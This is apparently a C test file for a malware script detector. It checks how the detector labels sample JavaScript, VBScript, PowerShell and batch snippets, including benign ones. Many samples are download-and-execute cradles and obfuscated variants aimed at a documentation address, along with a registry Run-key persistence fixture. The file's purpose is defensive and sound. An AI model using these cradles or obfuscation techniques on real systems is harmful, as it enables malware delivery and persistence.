/* What scripts do, however they are written, and scripts that do no harm.
 * Addresses are of the documentation ranges; nothing here is run. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "observe/observe.h"

extern const struct sk_observer sk_observe_script;

struct seen {
	char		does[128];
	bool		downloader;
	unsigned	obfuscated;
	char		language[8];
};

static struct seen
look_named(struct sk_span bytes, enum sk_type type, const char *extension)
{
	struct sk_arena *arena = sk_arena_new(1 << 26);
	struct sk_budget budget = sk_budget_default();
	struct sk_object object[2] = { { .seen = false }, { .bytes = bytes, .seen = true,
		.type = type } };
	struct sk_unpack u = { .arena = arena, .budget = &budget, .n = 2, .room = 2,
		.object = object, .record = sk_record_new(arena, 1000) };
	struct sk_look l = { &u, 1, &object[1], u.record, arena, &budget };
	struct seen s = { .downloader = false };
	size_t index, n = 0;

	assert_int_equal(sk_record_object(u.record, 0, SK_SPAN("1"), &index), 0);
	if (extension[0] != '\0')
		assert_int_equal(sk_record_text(u.record, 1, SK_KEY_NAME_EXTENSION,
		    sk_span_text(extension)), 0);
	sk_observe_script.look(&l);
	for (const struct sk_observation *o = sk_record_find(u.record, 1, SK_KEY_SCRIPT_DOES);
	    o != NULL; o = sk_record_next(u.record, o))
		n += (size_t)snprintf(s.does + n, sizeof s.does - n, "%s%.*s", n > 0 ? " " : "",
		    SK_FMT(o->text));
	s.downloader = sk_record_count(u.record, 1, SK_KEY_SCRIPT_DOWNLOADER) != 0;
	s.obfuscated = (unsigned)sk_record_count(u.record, 1, SK_KEY_SCRIPT_OBFUSCATED);
	(void)snprintf(s.language, sizeof s.language, "%.*s",
	    SK_FMT(sk_record_get(u.record, 1, SK_KEY_SCRIPT_LANGUAGE)));
	sk_arena_free(arena);
	return s;
}

static struct seen
look(struct sk_span bytes, enum sk_type type)
{
	return look_named(bytes, type, "");
}

#define JS SK_TYPE_SCRIPT_JS
#define VBS SK_TYPE_SCRIPT_VBS
#define PS1 SK_TYPE_SCRIPT_PS1
#define BAT SK_TYPE_SCRIPT_BAT

static const struct {
	enum sk_type	 type;
	const char	*text, *does;
	bool		 downloader, obfuscated;
} rows[] = {
	/* plain */
	{ JS, "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://192.0.2.1/a', false);"
	  "x.send(); var s = new ActiveXObject('ADODB.Stream'); s.Write(x.responseBody);"
	  "s.SaveToFile('a.tmp'); new ActiveXObject('WScript.Shell').Run('a.tmp', 0);",
	  "fetch run write object hide", true, false },
	{ VBS, "Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nh.Send\n"
	  "Execute h.ResponseText\n", "fetch eval object", true, false },
	{ PS1, "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
	  "fetch run eval object", true, false },
	{ PS1, "iwr http://192.0.2.1/a -OutFile a.tmp; Start-Process a.tmp -WindowStyle Hidden",
	  "fetch run hide", true, false },
	{ BAT, "@echo off\r\ncertutil -urlcache -f http://192.0.2.1/a a.tmp\r\nstart a.tmp\r\n",
	  "fetch run write", true, false },
	{ BAT, "powershell -c iwr http://192.0.2.1/a -OutFile a.tmp & a.tmp", "fetch run", true, false },
	{ BAT, "rem iwr and iex are words of another shell\r\necho iwr\r\n", "", false, false },
	{ VBS, "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden iwr http://192.0.2.1/a -o a\", 0\n",
	  "fetch run object hide", true, false },
	{ VBS, "iwr = 1\nMsgBox iwr\n", "", false, false },
	{ BAT, "bitsadmin /transfer a http://192.0.2.1/a %TEMP%\\a.tmp & start %TEMP%\\a.tmp",
	  "fetch run", true, false },
	{ VBS, "Set s = GetObject(\"new:72C24DD5-D70A-438B-8A42-98424B88AFB8\")\n"
	  "s.Run \"bitsadmin /transfer\", 0\n", "fetch run object hide", true, false },
	{ JS, "s.RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\a', b);",
	  "persist", false, false },
	/* cut into pieces */
	{ JS, "var q = new ActiveXObject(\"MSX\"+\"ML2.X\"+\"MLH\"+\"TTP\"), r = new ActiveXObject(\"WSc\"+"
	  "\"ript.\"+\"Sh\"+\"ell\"); r[\"Ru\"+\"n\"](\"a\"+\".t\"+\"mp\");", "fetch run object", true, true },
	{ JS, "var q = this[\"\\x41\\x63\\x74\\x69\\x76\\x65\\x58\\x4f\\x62\\x6a\\x65\\x63\\x74\"];"
	  "new q(\"\\u004d\\u0053\\u0058\\u004d\\u004c\\u0032\\u002e\\u0058\\u004d\\u004c\\u0048\\u0054\\u0054\\u0050\");",
	  "fetch object", false, true },
	{ JS, "eval(String.fromCharCode(110, 101, 119, 32, 65, 99, 116, 105, 118, 101, 88, 79, 98, 106,"
	  "101, 99, 116));", "decode eval object", false, true },
	{ JS, "var p = ['MSXML2', '.XMLH', 'TTP'].join(''); new ActiveXObject(p);", "fetch object", false, false },
	{ JS, "eval(unescape('%6e%65%77%20%41%63%74%69%76%65%58%4f%62%6a%65%63%74'));",
	  "decode eval object", false, true },
	{ VBS, "x = \"WSc\" & \"ript.S\" & _\n  \"hell\"\nSet s = CreateObject(x)\ns.Run \"a\"\n",
	  "run object", false, false },
	{ VBS, "Execute(Chr(67)&Chr(114)&Chr(101)&Chr(97)&ChrW(116)&Chr(&H65)&Chr(79)&Chr(98)&Chr(106)"
	  "&Chr(101)&Chr(99)&Chr(116)&\"(\")", "decode eval object", false, true },
	{ VBS, "x = StrReverse(\"llehS.tpircSW\"): CreateObject(x).Run \"a\"", "run decode object", false, true },
	{ PS1, "$a = 'Net.We'+'bCl'+'ient'; $b = New-Object $a; I`E`X $b.\"Down`load`String\"('http://192.0.2.1/')",
	  "fetch run eval object", true, false },
	{ PS1, "i`nvoke-ex`pression ([char]119+[char]114+[char]105+[char]116+[char]101)",
	  "run decode eval", false, true },
	{ BAT, "p^o^w^e^r^s^h^e^l^l -w hidden -c (new-object net.webclient).downloadfile('http://192.0.2.1/a','b')",
	  "fetch run write object hide", true, false },
	{ BAT, "c^e^r^t^u^t^i^l -u^r^l^c^a^c^h^e -f h^t^t^p://192.0.2.1/a b & s^t^a^r^t b",
	  "fetch run write", true, true },
	/* powershell -enc of: IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a'), UTF-16 */
	{ BAT, "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBE"
	  "AG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=",
	  "fetch run eval object", true, true },
	/* kept in variables and lists, added up later */
	{ JS, "var q=[\"WSc\",\"rip\",\"t.S\",\"hell\",\"MSX\",\"ML2\",\".XM\",\"LHT\",\"TP\"];"
	  "var s=new ActiveXObject(q[0]+q[1]+q[2]+q[3]);var x=new ActiveXObject(q[4]+q[5]+q[6]+q[7]+q[8]);"
	  "s.Run(x.responseText);", "fetch run object", true, true },
	{ JS, "var a='WSc',b='ript';var c='.Sh';c+='ell';var d=a+b+c;new ActiveXObject(d).Run('a');",
	  "run object", false, false },
	{ VBS, "s = \"WSc\"\ns = s & \"ript\"\ns = s & \".Shell\"\nCreateObject(s).Run \"a\"\n",
	  "run object", false, false },
	{ JS, "#@~^DgAAAA==abcdefghijklmnJqAQAAA==^#~@", "decode", false, true },
	/* honest */
	{ VBS, "' \xE3\x83\xAD\xE3\x82\xB0\xE3\x82\xAA\xE3\x83\xB3\nOption Explicit\nDim net, sh\n"
	  "Set net = CreateObject(\"WScript.Network\")\nSet sh = CreateObject(\"WScript.Shell\")\n"
	  "net.MapNetworkDrive \"P:\", \"\\\\fs01\\public\"\n"
	  "net.AddWindowsPrinterConnection \"\\\\ps01\\2F-color\"\n"
	  "If Hour(Now) < 12 Then\n  MsgBox \"Good morning, \" & net.UserName\nEnd If\n"
	  "sh.Run \"net use Q: \\\\fs02\\data\", 1, True\n", "run object", false, false },
	{ BAT, "@echo off\r\nsetlocal\r\nset OUT=%~dp0out\r\nif not exist \"%OUT%\" mkdir \"%OUT%\"\r\n"
	  "for %%f in (*.c) do cl /c \"%%f\" /Fo\"%OUT%\\%%~nf.obj\"\r\n"
	  "if errorlevel 1 goto failed\r\nlink /out:a.exe \"%OUT%\\*.obj\"\r\nexit /b 0\r\n"
	  ":failed\r\necho failed\r\nexit /b 1\r\n", "", false, false },
	{ PS1, "Import-Module ActiveDirectory\n$users = Get-ADUser -Filter * -Properties LastLogonDate\n"
	  "$users | Where-Object { $_.Enabled -eq $true } | Select-Object Name, LastLogonDate |\n"
	  "  Export-Csv -Path users.csv -NoTypeInformation -Encoding UTF8\n"
	  "Write-Host (\"done: \" + $users.Count)\n", "", false, false },
	{ JS, "const https = require('https');\nhttps.get('https://example.jp/', (res) => {\n"
	  "  let body = '';\n  res.on('data', (c) => { body += c; });\n"
	  "  res.on('end', () => { console.log(JSON.parse(body)); });\n});\n", "", false, false },
	{ JS, "!function(e,t){\"object\"==typeof module&&module.exports?module.exports=t():e.$=t()}(this,function()"
	  "{var e=[],t=e.slice,n=/^[\\x20\\t\\r\\n\\f]+/;function r(e){return null==e?e+\"\":\"object\"==typeof e?"
	  "i[o.call(e)]||\"object\":typeof e}var x=function(){try{return new ActiveXObject(\"Microsoft.XMLHTTP\")}"
	  "catch(e){}};function a(e){return(0,eval)(e)}return{ajax:x,globalEval:a,find:function(e){return n.exec(e)}}});",
	  "fetch object", false, false },
	{ JS, "var m = { 'save': '\\u4fdd\\u5b58', 'open': '\\u958b\\u304f', 'close': '\\u9589\\u3058\\u308b',"
	  "'print': '\\u5370\\u5237', 'help': '\\u30d8\\u30eb\\u30d7' };", "", false, false },
	{ JS, "var html = '<div class=\"a\">' + name + '</div>' + '<p>' + text + '</p>';\n"
	  "document.getElementById('x').innerHTML = html;\n", "", false, false },
	{ JS, "var k = [1116352408,1899447441,3049323471,3921009573,961987163,1508970993,2453635748,2870763221,"
	  "3624381080,310598401,607225278,1426881987,1925078388,2162078206,2614888103,3248222580,3835390401,"
	  "4022224774,264347078,604807628,770255983,1249150122,1555081692,1996064986,2554220882,2821834349,"
	  "2952996808,3210313671,3336571891,3584528711,113926993,338241895];", "", false, false },
	{ JS, "var t = table([['beep', '1024'], ['boop', '33450'], ['foo', '1006'], ['bar', '45']]);\n"
	  "t.equal(s, ['beep   1024', 'boop  33450', 'foo    1006', 'bar      45'].join('\\n'));\n",
	  "", false, false },
	{ VBS, "q = Chr(34)\nsh.Run q & path & q & Chr(32) & Chr(34) & file & Chr(34) & Chr(13) & Chr(10)\n",
	  "", false, false },
	{ VBS, "s = \"Dear \" & name & \",\" & vbCrLf\ns = s & \"thank you\" & vbCrLf\nMsgBox s\n", "", false, false },
	{ PS1, "$a = @{ Name = 'x'; Size = 1 }\n$a.Name -replace 'run', 'walk'\n# iex is not used here\n", "", false, false },
};

static void
does(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct seen s = look(sk_span_text(rows[i].text), rows[i].type);

		if (strcmp(s.does, rows[i].does) != 0 || s.downloader != rows[i].downloader ||
		    (s.obfuscated > 0) != rows[i].obfuscated)
			print_error("%.70s: \"%s\" downloader %d obfuscated %u\n", rows[i].text,
			    s.does, s.downloader, s.obfuscated);
	}
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct seen s = look(sk_span_text(rows[i].text), rows[i].type);

		assert_string_equal(s.does, rows[i].does);
		assert_int_equal(s.downloader, rows[i].downloader);
		assert_int_equal(s.obfuscated > 0, rows[i].obfuscated);
		assert_string_equal(s.language, sk_type_table[rows[i].type].word + 7);
	}
}

/* Text that is no script for the typer, under names that run and that do not. */
static void
by_name(void **state)
{
	static const char run[] = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\"
	    "Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"u\"=\"powershell -c "
	    "iex((new-object net.webclient).downloadstring('http://192.0.2.1/'))\"\r\n";
	static const char proxy[] = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\"
	    "Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings]\r\n"
	    "\"ProxyEnable\"=dword:00000001\r\n\"ProxyServer\"=\"proxy.example.co.jp:8080\"\r\n";
	struct seen s = look_named(sk_span_text(run), SK_TYPE_TEXT, "reg");

	(void)state;
	assert_true(s.downloader);
	assert_string_equal(s.language, "");
	assert_non_null(strstr(s.does, "persist"));
	s = look_named(sk_span_text(proxy), SK_TYPE_TEXT, "reg");
	assert_string_equal(s.does, "");
	s = look_named(sk_span_text(run), SK_TYPE_TEXT, "txt");
	assert_string_equal(s.does, "");
}

/* Two hundred pieces of a word, as generators write them. */
static void
pieces(void **state)
{
	static char text[65536];
	size_t n = 0;
	struct seen s;

	(void)state;
	for (int i = 0; i < 200; i++)
		n += (size_t)snprintf(text + n, sizeof text - n, "var v%d = \"%c%c\";\n", i,
		    'a' + i % 26, 'a' + i / 26);
	n += (size_t)snprintf(text + n, sizeof text - n, "eval(v1+v2+v3);\n");
	s = look((struct sk_span){ (const uint8_t *)text, n }, JS);
	assert_true(s.obfuscated >= 50);
	n = 0;
	for (int i = 0; i < 200; i++)
		n += (size_t)snprintf(text + n, sizeof text - n,
		    "var message%d = \"This is the text that message number %d shows\";\n", i, i);
	s = look((struct sk_span){ (const uint8_t *)text, n }, JS);
	assert_int_equal(s.obfuscated, 0);
}

static void
wide(void **state)
{
	static const char text[] = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/')";
	uint8_t b[2 * sizeof text];
	struct seen s;

	(void)state;
	b[0] = 0xFF;
	b[1] = 0xFE;
	for (size_t i = 0; i < sizeof text - 1; i++) {
		b[2 + 2 * i] = (uint8_t)text[i];
		b[3 + 2 * i] = 0;
	}
	s = look((struct sk_span){ b, 2 * sizeof text }, PS1);
	assert_true(s.downloader);
}

/* Nothing here may be slower than its length. */
static void
hostile(void **state)
{
	static const char *const unit[] = { "\"", "'", "\"a\"/*", "\"\\", "chr(", "/*", "\"a\"+", "a^",
		"fromCharCode(1,", "a='b';a+=a+'b';", "a=['b'];a[0]+a[0]+", "%u", "[char]", "x=x;", "<#", "&(", "\"a\",", "`" };
	size_t n = 1 << 20;
	char *text = malloc(n);

	(void)state;
	for (size_t k = 0; k < sizeof unit / sizeof *unit; k++) {
		size_t len = strlen(unit[k]);

		for (size_t i = 0; i < n; i++)
			text[i] = unit[k][i % len];
		for (int t = JS; t <= BAT; t++)
			(void)look((struct sk_span){ (const uint8_t *)text, n }, (enum sk_type)t);
		(void)sk_typer((struct sk_span){ (const uint8_t *)text, n }, SK_SPAN("a.js"));
	}
	free(text);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(does), cmocka_unit_test(by_name), cmocka_unit_test(pieces), cmocka_unit_test(wide),
		cmocka_unit_test(hostile),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
